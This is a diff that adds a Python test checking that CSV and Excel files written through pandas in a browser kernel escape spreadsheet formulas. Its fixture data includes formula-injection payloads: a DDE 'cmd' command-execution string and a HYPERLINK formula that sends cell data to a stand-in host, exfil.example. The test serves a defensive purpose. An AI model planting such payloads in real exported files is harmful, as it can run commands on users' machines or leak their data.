@@ -661,3 +661,33 @@ def test_unavailable_message_names_what_is_available() -> None:
         "No module named 'torch'. This browser kernel can use: numpy, pandas; "
         "it cannot install packages from the internet."
     )
+
+
+def test_csv_and_xlsx_written_by_code_escape_spreadsheet_formulas(kernel: Kernel, tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    result = ok(
+        kernel,
+        """
+        import pandas as pd
+        frame = pd.DataFrame({
+            "=cmd|' /C calc'!A0": ["=HYPERLINK(\\"http://exfil.example/?\\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "plain", "a=b"],
+            "n": [-5, 1, 2, 3, 4, 5],
+        })
+        frame.to_csv("out.csv", index=False)
+        frame.to_csv("raw.csv", index=False, escape_formulas=False)
+        frame.to_excel("out.xlsx", index=False)
+        frame["n"].to_csv("series.csv")
+        back = pd.read_excel("out.xlsx")
+        print(list(back.columns), list(back.iloc[:, 0]))
+        """,
+    )
+    lines = (data / "out.csv").read_text().splitlines()
+    assert lines[0] == "'=cmd|' /C calc'!A0,n"
+    assert [line.rsplit(",", 1)[0] for line in lines[1:]] == [
+        "\"'=HYPERLINK(\"\"http://exfil.example/?\"\"&A1)\"", "'+1+1", "'-2+3", "'@SUM(A1)", "plain", "a=b"
+    ]
+    assert [line.rsplit(",", 1)[1] for line in lines[1:]] == ["-5", "1", "2", "3", "4", "5"]  # numbers stay numbers
+    assert (data / "raw.csv").read_text().splitlines()[2] == "+1+1,1"
+    printed = "".join(text for _, text in streams(result))
+    assert "'=HYPERLINK" in printed and "'=cmd" in printed  # in the workbook as text, not formulas
+    assert (data / "series.csv").read_text().splitlines()[1] == "0,-5"
